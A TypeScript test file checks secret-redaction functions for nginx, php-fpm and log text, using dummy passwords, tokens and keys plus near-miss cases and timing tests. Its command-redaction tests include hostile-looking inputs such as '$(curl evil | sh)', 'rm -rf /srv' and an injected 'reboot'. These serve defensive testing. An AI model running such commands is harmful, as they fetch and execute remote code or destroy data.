import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { redactCommand, redactSecrets } from '../../src/formats/redact.ts';

const secrets: [string, string][] = [
  ['fastcgi_param DB_PASSWORD hunter2;', 'fastcgi_param DB_PASSWORD [redacted];'],
  ['  fastcgi_param  X_PASSWORD  "a b;c";', '  fastcgi_param  X_PASSWORD  "[redacted]";'],
  ['fastcgi_param DB_PASS x9;', 'fastcgi_param DB_PASS [redacted];'],
  ["+    fastcgi_param APP_SECRET 's';", "+    fastcgi_param APP_SECRET '[redacted]';"],
  ['proxy_set_header X-Api-Key abcdef;', 'proxy_set_header X-Api-Key [redacted];'],
  ['proxy_set_header Authorization "Basic dXNlcjpwYXNz";', 'proxy_set_header Authorization "Basic [redacted]";'],
  ['proxy_set_header Authorization abc;', 'proxy_set_header Authorization [redacted];'],
  ['env[HTTP_AUTHORIZATION] = abc', 'env[HTTP_AUTHORIZATION] = [redacted]'],
  ['set $db_password s3;', 'set $db_password [redacted];'],
  ['location / { secure_link_secret lock; }', 'location / { secure_link_secret [redacted]; }'],
  ['map $http_apikey $who { default ""; "abc" one; }', 'map $http_apikey $who { default ""; [redacted] one; }'],
  ['secure_link_secret lock;', 'secure_link_secret [redacted];'],
  ['env[DB_PASSWORD] = hunter2', 'env[DB_PASSWORD] = [redacted]'],
  ['env[DB_PASS]="a;b" ; the database', 'env[DB_PASS]="[redacted]" ; the database'],
  ['env[APP_KEY_SECRET] = two words ; why', 'env[APP_KEY_SECRET] = [redacted] ; why'],
  ['-php_admin_value[mysqli.default_pw] = x', '-php_admin_value[mysqli.default_pw] = [redacted]'],
  ['php_value[my.password] = x', 'php_value[my.password] = [redacted]'],
  [';env[API_KEY] = old', ';env[API_KEY] = [redacted]'],
  ['session.save_path = "tcp://h:6379?auth=pw&db=1"', 'session.save_path = "tcp://h:6379?auth=[redacted]&db=1"'],
  ['env[URL] = mysql://app:pw1@db/app', 'env[URL] = mysql://app:[redacted]@db/app'],
  ['dsn: pgsql:host=db;password=x1;dbname=y', 'dsn: pgsql:host=db;password=[redacted];dbname=y'],
  ['request: "GET /?token=abc&x=1 HTTP/1.1"', 'request: "GET /?token=[redacted]&x=1 HTTP/1.1"'],
  ['Authorization: Bearer abc.def-123', 'Authorization: Bearer [redacted]'],
  ['sent Bearer eyJhbGciOi1 to the server', 'sent Bearer [redacted] to the server'],
  ['{"apiKey": "k1", "n": 1}', '{"apiKey": "[redacted]", "n": 1}'],
  ['env DB_PASSWORD=x php-fpm -F', 'env DB_PASSWORD=[redacted] php-fpm -F'],
  ['env[MAILER] = smtp-relay-7', 'env[MAILER] = [redacted]'],
  ['env[A] = "first\nsecond" ; why', 'env[A] = "[redacted]\n[redacted]" ; why'],
  ['env[A] = "b" c', 'env[A] = [redacted]'],
  ['env[A] = "never closed\nlisten = /run/a.sock', 'env[A] = [redacted]\nlisten = /run/a.sock'],
  ['env[APP_KEY] = base64:a+b/c=', 'env[APP_KEY] = [redacted]'],
  ['php_admin_value[newrelic.license] = "abc"', 'php_admin_value[newrelic.license] = "[redacted]"'],
  ['fastcgi_param DB_KEY abc;', 'fastcgi_param DB_KEY [redacted];'],
  ['fastcgi_param DB_PASSWORD\n    abc;', 'fastcgi_param DB_PASSWORD\n    [redacted];'],
  ['fastcgi_param DB_PASSWORD a\\;b;', 'fastcgi_param DB_PASSWORD [redacted];'],
  ['proxy_set_header Cookie "a=1; b=2";', 'proxy_set_header Cookie "[redacted]";'],
  ['if ($http_x_api_key != abc) {', 'if ($http_x_api_key != [redacted]) {'],
  ['if ($arg_token = "a b") {', 'if ($arg_token = "[redacted]") {'],
  [
    'map $http_apikey $who {\n  default "";\n  "abc" "one";\n  def two;\n}',
    'map $http_apikey $who {\n  default "";\n  [redacted] "one";\n  [redacted] two;\n}',
  ],
  ['invalid port in upstream "user:pw@db:80"', 'invalid port in upstream "user:[redacted]@db:80"'],
  ['mysql://app:p@ss@db/app', 'mysql://app:[redacted]@db/app'],
  ['GET /pay?key=abc&x=1', 'GET /pay?key=[redacted]&x=1'],
  ['auth[]=user&auth[]=pw', 'auth[]=[redacted]&auth[]=[redacted]'],
  ['password=a,b)c', 'password=[redacted]'],
  ['HTTP_AUTHORIZATION=Basic abc', 'HTTP_AUTHORIZATION=Basic [redacted]'],
  ['it sent Basic dXNlcjpwYXNz', 'it sent Basic [redacted]'],
  ['Cookie: a=b; c=d', 'Cookie: [redacted]'],
  ['mysqldump --password s3cret app', 'mysqldump --password [redacted] app'],
  ['x eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln y', 'x [redacted] y'],
  ['admin:$apr1$ruca84Hq$mbjdMZBAG.KWn7vfN/SNK/', 'admin:[redacted]'],
  [
    "#0 /srv/db.php(3): PDO->__construct('mysql:host=db', 'app', 's3')\n#1 {main}",
    '#0 /srv/db.php(3): PDO->__construct([redacted])\n#1 {main}',
  ],
  ["#0 /srv/db.php(3): mysqli_connect('db', 'app', 'cut o", '#0 /srv/db.php(3): mysqli_connect([redacted])'],
];

const nearMisses = [
  'fastcgi_pass unix:/run/php/php8.2-fpm.sock;',
  'proxy_pass http://user@backend:8080/a@b;',
  'server_tokens off;',
  'ops ALL=(root) NOPASSWD: ALL',
  'ssl_password_file /etc/nginx/keys.pass;',
  'ssl_certificate_key /etc/ssl/private/site.key;',
  'auth_basic_user_file /etc/nginx/.htpasswd;',
  'auth_basic "Restricted";',
  'fastcgi_param HTTP_X_TOKEN $http_x_token;',
  'proxy_set_header Authorization $http_authorization;',
  'proxy_set_header Authorization "";',
  'proxy_pass_header Authorization;',
  'env[DB_PASSWORD] = $DB_PASSWORD',
  'env[PASSWORD_FILE] = /run/secrets/db',
  'env[PATH] = /usr/local/bin:/usr/bin:/bin',
  'env[TMPDIR] = /tmp',
  'env[HOSTNAME] = $HOSTNAME',
  'fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;',
  'fastcgi_cache_key "$scheme$request_method$host$request_uri";',
  'if ($request_method = POST) {',
  'map $http_upgrade $connection_upgrade { default upgrade; "" close; }',
  'GET /?page=2&sort=key HTTP/1.1',
  'the basic functionality',
  'License: MIT',
  '#1 /srv/index.php(12): run()',
  'php_admin_flag[expose_secret] = off',
  'session.use_trans_sid = 0',
  'listen = 127.0.0.1:9000',
  'listen.owner = www-data',
  'the bearer of bad news',
  '# Enable http authorization headers',
  'failed (13: Permission denied) while connecting to upstream, upstream: "fastcgi://unix:/run/a.sock:"',
  'include /etc/passwd;',
  '-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIU\n-----END CERTIFICATE-----',
  'fastcgi_param TOKENIZER simple;',
  'password',
  'no password was given',
];

describe('redactSecrets', () => {
  test.each(secrets)('%s', (text, expected) => expect(redactSecrets(text)).toBe(expected));

  test.each(nearMisses)('leaves %s alone', (text) => expect(redactSecrets(text)).toBe(text));

  test.each([
    [`TOKEN='$(curl evil | sh)' true`, `TOKEN='$(curl evil | sh)' true`],
    ["#0 a.php(1): f('; rm -rf /srv; '", "#0 a.php(1): f('; rm -rf /srv; '"],
    ['Cookie: x; rm -rf /srv', 'Cookie: [redacted]; rm -rf /srv'],
    ['PASSWORD=`id` true', 'PASSWORD=`id` true'],
    ['mysql -uroot -pgeheim9 app | grep x', 'mysql -uroot -p[redacted] app | grep x'],
    ["curl -u ops:geheim9 'http://x/?token=geheim9'", "curl -u ops:[redacted] 'http://x/?token=[redacted]'"],
    ['echo password geheim9 >/etc/x; reboot', 'echo password [redacted] >/etc/x; reboot'],
  ])('of a command hides nothing that would be run: %s', (command, expected) => {
    expect(redactCommand(command)).toBe(expected);
  });

  test('replaces each line of a private key and keeps what surrounds it', () => {
    const key = 'a\n-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nIBAAKC\n-----END RSA PRIVATE KEY-----\nb';
    expect(redactSecrets(key)).toBe(
      'a\n-----BEGIN RSA PRIVATE KEY-----\n[redacted]\n[redacted]\n-----END RSA PRIVATE KEY-----\nb',
    );
  });

  test('leaves a comment a comment, so that what follows is read as before', () => {
    const key = '  # -----BEGIN PRIVATE KEY-----\n  # MIIEow\n  # -----END PRIVATE KEY-----\n  listen 80;';
    expect(redactSecrets(key)).toBe(key.replace('MIIEow', '[redacted]'));
  });

  test('replaces a key in a diff that ends before the key does, and nothing beyond it', () => {
    const diff =
      '+-----BEGIN PRIVATE KEY-----\n+MIIEvQIBADANBgkqhkiG9w0B\n+AQEFAASCBKcwggSjAgEAAoIB\n@@ -9 +9 @@\n user nginx;';
    expect(redactSecrets(diff)).toBe(
      '+-----BEGIN PRIVATE KEY-----\n+[redacted]\n+[redacted]\n@@ -9 +9 @@\n user nginx;',
    );
  });

  test('keeps the lines of a quoted value that runs over several', () => {
    expect(redactSecrets('fastcgi_param SECRET "a\nb";\nx')).toBe('fastcgi_param SECRET "[redacted]\n[redacted]";\nx');
  });

  test('keeps the number of lines, and a second pass changes nothing', () => {
    const piece = fc.constantFrom(
      ...secrets.map(([text]) => text),
      ...nearMisses,
      '\n',
      '"',
      "'",
      ';',
      '=',
      ' ',
      '\r\n',
      '-----BEGIN PRIVATE KEY-----',
      '-----END PRIVATE KEY-----',
      'password',
      'set $token ',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const text = pieces.join('');
        const once = redactSecrets(text);
        expect(once.split('\n')).toHaveLength(text.split('\n').length);
        expect(redactSecrets(once)).toBe(once);
      }),
      { numRuns: 500 },
    );
  });

  // A host that could make this slow would hold up all others.
  test.each([
    'a.b-',
    '"',
    ' ',
    ';',
    '-----BEGIN PRIVATE KEY-----\n',
    '-----BEGIN PRIVATE KEY-----',
    '-----BEGIN PRIVATE KEY-----\nQUJDREVGR0hJSktMTU5P!',
    'set x "',
    "password = '\\",
    'password="\n',
    'a://b:',
    'authorization: basic ',
    '#0 a(1): f(',
    'map $token $x {',
  ])('takes linear time over many times %j', (piece) => {
    const text = piece.repeat(200_000 / piece.length);
    const started = performance.now();
    redactSecrets(`${text}!`);
    redactSecrets(`-----BEGIN PRIVATE KEY-----\n${text}!`);
    expect(performance.now() - started).toBeLessThan(1500);
  });
});
